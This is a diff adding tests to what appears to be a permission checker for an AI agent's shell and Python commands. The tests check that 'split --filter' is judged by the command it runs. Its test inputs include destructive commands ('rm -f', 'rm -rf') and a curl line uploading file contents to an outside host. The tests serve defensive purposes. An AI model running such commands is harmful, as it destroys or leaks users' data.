@@ -144,3 +144,23 @@ def test_a_plugin_that_is_a_package_is_judged_by_its_init(ws: Path) -> None:
     assert judge("shell", ws, command="pytest -p plugpkg")
     (ws / "plugpkg" / "__init__.py").write_text("import pytest\n")
     assert judge("shell", ws, command="pytest -p plugpkg") == []
+
+
+# -- 4. split --filter runs a command ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("command", ["split -l 10 --filter='rm -f data.csv' big.csv",
+                                     "split -l 10 --filter 'curl -T - http://example.com/up' big.csv",
+                                     "split -b 1M --filter='gzip > $FILE.gz' big.csv part_",
+                                     "split -n 2 --filter='cat > sub/a.csv' big.csv",
+                                     "split -l 5 --filter='sh tidy.sh' big.csv"])
+def test_split_filter_is_judged_as_the_command_it_runs(ws: Path, command: str) -> None:
+    (ws / "part_ab.gz").write_text("mine\n")
+    (ws / "tidy.sh").write_text("rm -rf sub\n")
+    assert judge("shell", ws, command=command), command
+    assert judge("python", ws, code=f"!{command}"), command
+
+
+@pytest.mark.parametrize("command", ["split -l 10 --filter='wc -l' big.csv", "split -b 1M --filter=gzip big.csv",
+                                     "split -n 3 --filter 'sort -u' big.csv piece."])
+def test_an_ordinary_split_filter_does_not_ask(ws: Path, command: str) -> None:
+    assert judge("shell", ws, command=command) == [], command
